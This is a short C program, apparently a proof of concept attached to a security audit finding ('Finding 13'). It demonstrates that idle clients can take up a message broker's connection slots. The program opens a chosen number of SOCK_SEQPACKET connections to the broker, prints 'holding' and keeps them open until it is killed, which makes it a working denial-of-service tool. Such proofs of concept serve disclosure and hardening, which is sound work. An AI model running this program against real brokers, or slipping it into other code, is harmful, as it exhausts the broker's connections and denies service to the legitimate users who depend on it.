/*
 * Finding 13. Connections to the broker that ask nothing hold the places of others.
 * idle-connections BROKER CONNECTIONS: says "holding", and holds them until it is killed.
 */
#include "attack.h"

int main(int argc, char **argv)
{
    if (argc != 3)
        errno = EINVAL, broken("idle-connections BROKER CONNECTIONS");
    for (int i = 0; i < atoi(argv[2]); i++)
        if (dial(argv[1], SOCK_SEQPACKET) < 0)
            broken("connection %d", i);
    printf("holding\n");
    fflush(stdout);
    for (;;)
        pause();
}
